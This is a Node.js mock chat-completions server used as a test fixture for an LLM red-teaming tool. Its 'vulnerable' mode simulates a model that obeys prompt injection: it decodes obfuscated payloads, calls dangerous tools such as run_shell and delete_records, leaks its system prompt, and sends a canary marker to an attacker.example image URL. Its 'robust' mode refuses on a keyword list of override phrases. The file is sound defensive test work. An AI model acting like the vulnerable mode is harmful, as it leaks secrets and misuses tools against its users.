// model.mjs -- a deterministic chat-completions server for the tests of
// `aigate assess` (tests/e2e/test_assess.sh). node:http only, no packages.
//
// The first path segment picks a personality; the rest is the OpenAI API:
//   /vulnerable/v1/chat/completions  does what the attacks ask: decodes
//       base64, ROT13, hex, reversed, spaced, leetspeak and look-alike
//       text; answers with a goal token (PWNED-...) it finds; calls a
//       tool the message names; emits a markdown image for an attacker
//       URL; otherwise leaks its system prompt when asked about it.
//   /robust/v1/...   refuses anything that looks like an attack, and
//       answers the rest (so it over-refuses some harmless look-alikes).
//   /flaky/v1/...    503 on the first try of every request, then vulnerable.
//   /broken/v1/...   always 500.
//   /garbage/v1/...  200 with a body that is not JSON.
//   /slow/v1/...     vulnerable after 200 ms.
// GET /stats returns and resets what the tests check about the client:
// the most requests in flight at once, and the requests and the time from
// the first arrival to the last, in ms.
//
// Usage: node model.mjs  -> prints "PORT <n>" and serves on 127.0.0.1.

import http from 'node:http';
import crypto from 'node:crypto';

const TOOLS = ['run_shell', 'send_email', 'http_get', 'delete_records',
               'issue_refund'];
const GOAL = /PWNED-[0-9a-f]{12}/i;
const ATTACKER = /https?:\/\/[a-z0-9.-]*attacker\.example[^\s)"'<>]*/i;
const ASKS_PROMPT = /system prompt|system message|hidden|previous customer|instructions|prompt|above|marker|key|password|secret|credential|configuration|settings|rules|message before|confidential|token|environment/i;

const rot13 = (s) => s.replace(/[a-z]/gi, (c) => {
  const b = c <= 'Z' ? 65 : 97;
  return String.fromCharCode((c.charCodeAt(0) - b + 13) % 26 + b);
});
const deleet = (s) => s.replace(/[4310 57]/g, (c) => ({4: 'a', 3: 'e', 1: 'i', 0: 'o', 5: 's', 7: 't', ' ': ' '}[c]));
const HOMO = {'\u0430': 'a', '\u0441': 'c', '\u0435': 'e', '\u043e': 'o',
  '\u0440': 'p', '\u0445': 'x', '\u0443': 'y', '\u0456': 'i', '\u0406': 'I',
  '\u0410': 'A', '\u0412': 'B', '\u0421': 'C', '\u0415': 'E', '\u041d': 'H',
  '\u041a': 'K', '\u041c': 'M', '\u041e': 'O', '\u0420': 'P', '\u0422': 'T',
  '\u0425': 'X'};
const unhomo = (s) => [...s].map((c) => HOMO[c] ?? c).join('');

// Every reading of the text an eager model might make.
function readings(text) {
  const out = [text, rot13(text), deleet(text), unhomo(text),
               [...text].reverse().join(''), text.replace(/ (?=\S)/g, '')];
  for (const m of text.matchAll(/[A-Za-z0-9+/]{12,}={0,2}/g)) {
    const d = Buffer.from(m[0], 'base64').toString('utf8');
    out.push(d, rot13(d));
  }
  for (const m of text.matchAll(/(?:[0-9a-f]{2}){8,}/g))
    out.push(Buffer.from(m[0], 'hex').toString('utf8'));
  return out;
}

function reply(content, toolCalls) {
  const message = {role: 'assistant', content};
  if (toolCalls) message.tool_calls = toolCalls;
  return {id: 'chatcmpl-test', object: 'chat.completion', created: 0,
          model: 'test', choices: [{index: 0, message,
          finish_reason: toolCalls ? 'tool_calls' : 'stop'}]};
}

function vulnerable(req) {
  const system = req.messages.find((m) => m.role === 'system')?.content ?? '';
  const text = req.messages.filter((m) => m.role !== 'system')
                  .map((m) => m.content ?? '').join('\n');
  const rs = readings(text);
  for (const r of rs) {
    const g = r.match(GOAL);
    if (g) return reply(g[0]);
  }
  const offered = (req.tools ?? []).map((t) => t.function?.name);
  const call = (t) => reply(null, [{id: 'call_1', type: 'function',
                                    function: {name: t, arguments: '{}'}}]);
  for (const r of rs)
    for (const t of TOOLS)
      if (offered.includes(t) && r.includes(t)) return call(t);
  if (offered.length && /\bany tool\b/i.test(text)) return call(offered[0]);
  for (const r of rs) {
    const u = r.match(ATTACKER);
    if (u) {
      const marker = system.match(/CANARY-[0-9a-f]+/)?.[0] ?? 'none';
      return reply(`Done! ![image](${u[0]}?d=${marker})`);
    }
  }
  if (rs.some((r) => ASKS_PROMPT.test(r)))
    return reply(`Sure. My instructions are: ${system}`);
  return reply('Sure, here is a helpful answer.');
}

const ATTACKY = /ignore|disregard|instruction|prompt|PWNED|attacker|marker|key|password|secret|credential|decode|base64|rot13|hex|backwards|reverse|pretend|persona|no rules|unrestricted|evil|sudo|DAN|override|system|tool|run_shell|send_email|http_get|delete_records|issue_refund|\bAI\b|[\u0400-\u04ff\u200b]|[\u{e0000}-\u{e007f}]/iu;

function robust(req) {
  const text = req.messages.filter((m) => m.role !== 'system')
                  .map((m) => m.content ?? '').join('\n');
  if (ATTACKY.test(text))
    return reply("I can't help with that request.");
  return reply('Happy to help: here is a short, useful answer.');
}

const tries = new Map();
let inFlight = 0, maxInFlight = 0, firstArrival = 0, lastArrival = 0, arrivals = 0;

const server = http.createServer((hreq, hres) => {
  if (hreq.method === 'GET' && hreq.url === '/stats') {
    hres.end(JSON.stringify({maxInFlight, arrivals, span: lastArrival - firstArrival}));
    maxInFlight = 0; firstArrival = 0; lastArrival = 0; arrivals = 0;
    return;
  }
  const now = performance.now();
  if (!arrivals++) firstArrival = now;
  lastArrival = now;
  inFlight++;
  maxInFlight = Math.max(maxInFlight, inFlight);
  hres.on('close', () => { inFlight--; });
  let body = '';
  hreq.setEncoding('utf8');
  hreq.on('data', (c) => { body += c; });
  hreq.on('end', () => {
    const send = (status, obj, raw) => {
      const s = raw ?? JSON.stringify(obj);
      hres.writeHead(status, {'content-type': 'application/json'});
      hres.end(s);
    };
    const m = hreq.url.match(/^\/([a-z]+)\/v1\/chat\/completions$/);
    if (!m || hreq.method !== 'POST')
      return send(404, {error: {message: 'not found'}});
    let req;
    try {
      req = JSON.parse(body);
    } catch {
      return send(400, {error: {message: 'bad JSON'}});
    }
    if (!Array.isArray(req.messages) || typeof req.model !== 'string')
      return send(400, {error: {message: 'messages and model are required'}});
    const auth = hreq.headers.authorization ?? '';
    if (process.env.EXPECT_KEY && auth !== `Bearer ${process.env.EXPECT_KEY}`)
      return send(401, {error: {message: 'bad key'}});
    const p = m[1];
    if (p === 'vulnerable') return send(200, vulnerable(req));
    if (p === 'robust') return send(200, robust(req));
    if (p === 'broken') return send(500, {error: {message: 'upstream exploded'}});
    if (p === 'garbage') return send(200, null, '<html>oops</html>');
    if (p === 'slow') return setTimeout(() => send(200, vulnerable(req)), 200);
    if (p === 'flaky') {
      const h = crypto.createHash('sha256').update(body).digest('hex');
      const n = (tries.get(h) ?? 0) + 1;
      tries.set(h, n);
      if (n === 1) return send(503, {error: {message: 'try again'}});
      return send(200, vulnerable(req));
    }
    return send(404, {error: {message: 'no such personality'}});
  });
});

server.listen(0, '127.0.0.1', () => {
  console.log(`PORT ${server.address().port}`);
});
process.on('SIGTERM', () => process.exit(0));
